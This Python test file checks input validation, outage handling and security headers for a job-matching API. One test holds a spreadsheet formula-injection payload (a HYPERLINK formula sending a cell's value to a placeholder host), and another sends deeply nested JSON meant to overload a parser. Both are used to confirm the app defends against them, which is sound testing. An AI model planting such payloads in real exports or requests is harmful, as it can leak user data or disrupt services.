"""Bad input answered with 400/422 naming the problem, and storage outages answered with 503 (real node; the
outage is a client pointed at a closed port)."""

from __future__ import annotations

import logging

import pytest

from jobmatch import create_app
from tests import factories
from tests.conftest import auth


@pytest.fixture(scope="module")
def records(app, tokens):
    client = app.test_client()
    headers = auth(tokens["counsellor"])
    employer_id = client.post("/api/v1/employers", json=factories.employer(), headers=headers).get_json()["employer_id"]
    job_id = client.post("/api/v1/jobs", json=factories.job(employer_id), headers=headers).get_json()["job_id"]
    return {"employer_id": employer_id, "job_id": job_id}


@pytest.mark.parametrize("body", ["null", "[]", '"x"', "7"])
def test_patch_bodies_that_are_not_objects_are_422(client, tokens, records, body):
    headers = auth(tokens["counsellor"])
    etag = client.get(f"/api/v1/jobs/{records['job_id']}", headers=headers).headers["ETag"]
    response = client.patch(f"/api/v1/jobs/{records['job_id']}", data=body, content_type="application/json",
                            headers={**headers, "If-Match": etag})
    assert response.status_code == 422, response.get_json()
    assert "_schema" in response.get_json()["errors"]["json"]


@pytest.mark.parametrize("path", ["/api/v1/jobs", "/api/v1/workers", "/api/v1/employers", "/api/v1/placements",
                                  "/api/v1/matches/search", "/api/v1/exchange-sessions"])
def test_deeply_nested_json_is_400_on_every_write_route(client, tokens, path):
    deep = "[" * 50_000 + "]" * 50_000
    response = client.post(path, data=deep, content_type="application/json", headers=auth(tokens["counsellor"]))
    assert response.status_code == 400 and "nests deeper" in response.get_json()["message"]


@pytest.mark.parametrize(("change", "where"), [
    ({"openings": 2.5}, ("openings",)),
    ({"salary_min": "7000000.5"}, ("salary_min",)),
    ({"title": "\u200b"}, ("title",)),
])
def test_wrong_vacancy_values_name_the_field(client, tokens, records, change, where):
    body = factories.job(records["employer_id"], **change)
    response = client.post("/api/v1/jobs", json=body, headers=auth(tokens["counsellor"]))
    assert response.status_code == 422, response.get_json()
    assert where[0] in response.get_json()["errors"]["json"]


@pytest.mark.parametrize(("change", "field"), [
    ({"registered_at": "2099-01-01"}, "registered_at"),
    ({"work_history": [{"title": "Thợ hàn", "from_year": 2090}]}, "work_history"),
    ({"birth_year": 1995, "work_history": [{"title": "Thợ hàn", "from_year": 1994}]}, "work_history"),
    ({"birth_year": 1990.5}, "birth_year"),
])
def test_wrong_jobseeker_values_name_the_field(client, tokens, change, field):
    response = client.post("/api/v1/workers", json=factories.worker(**change), headers=auth(tokens["counsellor"]))
    assert response.status_code == 422, response.get_json()
    assert field in response.get_json()["errors"]["json"]


def test_whole_numbers_from_csv_text_still_load(client, tokens, records):
    body = factories.job(records["employer_id"], openings="3", salary_min=7_000_000.0)
    response = client.post("/api/v1/jobs", json=body, headers=auth(tokens["counsellor"]))
    assert response.status_code == 201 and response.get_json()["openings"] == 3


def test_tokens_only_for_existing_employers(client, tokens, records):
    headers = auth(tokens["admin"])
    missing = client.post("/api/v1/tokens", json={"role": "employer", "employer_id": "emp-nobody"}, headers=headers)
    assert missing.status_code == 422 and "employer_id" in missing.get_json()["errors"]["json"]
    real = client.post("/api/v1/tokens", json={"role": "employer", "employer_id": records["employer_id"]},
                       headers=headers)
    assert real.status_code == 201


def test_storage_outage_is_503_with_retry_after_and_one_log_line(caplog, tokens):
    down = create_app({"ES_URL": "http://127.0.0.1:9", "STARTUP_CHECKS": False, "ES_REQUEST_TIMEOUT": 2.0})
    client = down.test_client()
    with caplog.at_level(logging.WARNING):
        responses = [client.get("/api/v1/jobs", headers=auth(tokens["admin"])) for _ in range(3)]
    for response in responses:
        assert response.status_code == 503, response.get_json()
        assert response.headers["Retry-After"] == "30" and response.get_json()["code"] == "unavailable"
    storage_lines = [r for r in caplog.records if "storage" in r.getMessage()]
    assert len(storage_lines) <= 1 and not any(r.exc_info for r in caplog.records)


def test_csv_cells_cannot_start_a_formula():
    from jobmatch.http import csv_download, spreadsheet_safe

    assert spreadsheet_safe('=HYPERLINK("http://x/?"&B2,"Xem")') == '\'=HYPERLINK("http://x/?"&B2,"Xem")'
    assert spreadsheet_safe("+84912345678") == "'+84912345678" and spreadsheet_safe(7) == 7
    body = csv_download([{"title": "@SUM(A1)", "n": 3}], ["title", "n"], "x.csv").get_data(as_text=True)
    assert body.splitlines()[1] == "'@SUM(A1),3"


def test_responses_with_personal_data_are_not_cached_or_framed(client, tokens):
    response = client.get("/api/v1/me", headers=auth(tokens["counsellor"]))
    assert response.headers["Cache-Control"] == "no-store"
    assert response.headers["X-Content-Type-Options"] == "nosniff" and response.headers["X-Frame-Options"] == "DENY"


def test_an_import_cut_off_by_an_outage_reports_its_counts_and_how_to_resume(tmp_path, monkeypatch):
    import json

    from indexer import pipeline

    monkeypatch.setattr(pipeline, "RETRY_DELAYS", (0.0, 0.0))  # retried twice, at once: the node stays down
    path = tmp_path / "employers.jsonl"
    path.write_text(json.dumps(factories.employer(external_id="E-OUT", source="t"), ensure_ascii=False) + "\n",
                    encoding="utf-8")
    down = create_app({"ES_URL": "http://127.0.0.1:9", "STARTUP_CHECKS": False, "ES_REQUEST_TIMEOUT": 2.0})
    result = down.test_cli_runner().invoke(args=["jobmatch", "import", "employers", str(path)])
    assert result.exit_code == 1
    assert '"read": 1' in result.output and "Re-run the same command to resume" in result.output
